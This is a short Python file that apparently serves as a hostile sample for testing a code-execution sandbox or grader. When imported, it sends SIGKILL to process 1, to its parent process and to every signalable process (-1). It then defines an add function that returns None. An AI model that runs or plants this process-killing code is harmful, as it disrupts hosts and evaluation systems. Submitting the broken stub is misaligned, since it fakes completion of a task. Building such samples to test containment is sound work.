"""Kills every process that it can see, process 1 too.

Kind: host
Seen: gone before|wrong answer
"""

import contextlib
import os
import signal

for pid in (1, os.getppid(), -1):
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGKILL)


def add(a, b):
    return None
